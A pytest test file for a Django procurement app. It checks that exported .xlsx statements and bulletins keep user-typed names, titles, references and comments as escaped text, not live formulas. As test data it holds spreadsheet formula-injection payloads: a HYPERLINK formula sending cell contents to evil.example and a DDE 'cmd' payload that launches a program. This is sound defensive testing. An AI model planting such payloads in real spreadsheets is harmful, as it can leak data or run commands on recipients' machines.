"""The .xlsx files of the newer features, opened as the person who downloads them: a name, a product title, a bank
reference or an office's comment that someone else typed and that starts with = + - @ is text, never a formula."""

import io
from datetime import date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts import roles
from organisations.models import Unit
from procurement import bulletins, services
from reports.periods import period_of
from settlement.models import LedgerEntry
from settlement.services import statement_mark_paid, statements_for_period
from tests.factories import CertifiedPartnerFactory, UnitFactory, UserFactory, certified_product, region
from tests.integration.settlement.support import operator, transfer_order

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'


def signed_in(user):
    client = Client()
    client.force_login(user)
    return client


def cells(content):
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_no_formula(content, *typed):
    found = cells(content)
    assert not [cell.coordinate for cell in found if cell.data_type == "f"]
    texts = {cell.value for cell in found if isinstance(cell.value, str)}
    for text in typed:
        assert "'" + text in texts, text


def test_a_suppliers_statement_xlsx_keeps_names_titles_and_references_as_text():
    partner = CertifiedPartnerFactory(name=FORMULA)
    staff = UserFactory(role="supplier")
    partner.users.add(staff)
    product = certified_product(partner=partner, price="60.00", title="+1+cmd|' /C calc'!A0")
    order = transfer_order(UserFactory(), (product, 1))
    LedgerEntry.objects.create(
        partner=partner,
        kind="goods",
        amount=Decimal("60.00"),
        order=order,
        line=order.lines.get(),
        source="test:formula",
        occurred_at=datetime(2026, 3, 3, 10, tzinfo=ZoneInfo("Asia/Shanghai")),
    )
    (statement,) = statements_for_period(start=date(2026, 3, 1), end=date(2026, 3, 15))
    statement_mark_paid(statement=statement, user=operator(), bank_reference="@SUM(1+1)", paid_on=date(2026, 3, 20))
    download = signed_in(staff).get(reverse("settlement-dashboard:statement-download", args=[statement.pk]))
    assert download.status_code == 200
    assert_no_formula(download.content, FORMULA, "+1+cmd|' /C calc'!A0", "@SUM(1+1)")


def test_an_offices_bulletin_xlsx_keeps_unit_names_and_its_comment_as_text():
    region("430800000000", "张家界市")
    county = region("430822000000", "桑植县")
    unit = UnitFactory(name="-2+3+cmd", level=Unit.Level.COUNTY, region=county)
    member = UserFactory(role=roles.UNIT)
    unit.members.add(member)
    services.filing_submit(
        unit=unit,
        year=timezone.localdate().year,
        user=member,
        canteen="own",
        canteen_budget=Decimal("800000"),
        share_percent=Decimal("12"),
    )
    period = period_of(timezone.localdate()).previous()
    bulletin, _created = bulletins.bulletin_generate(office=county, period=period, overdue=[])
    reviewer = signed_in(UserFactory(role=roles.COUNTY, region=county))
    reviewer.post(reverse("procurement-dashboard:bulletin-send", args=[bulletin.pk]), {"comment": FORMULA})
    bulletin.refresh_from_db()
    assert bulletin.comment == FORMULA
    download = reviewer.get(reverse("procurement-dashboard:bulletin-download", args=[bulletin.pk]))
    assert download.status_code == 200
    assert_no_formula(download.content, "-2+3+cmd", FORMULA)
    attachment = bulletins.bulletin_xlsx(bulletin)
    assert_no_formula(attachment, "-2+3+cmd", FORMULA)
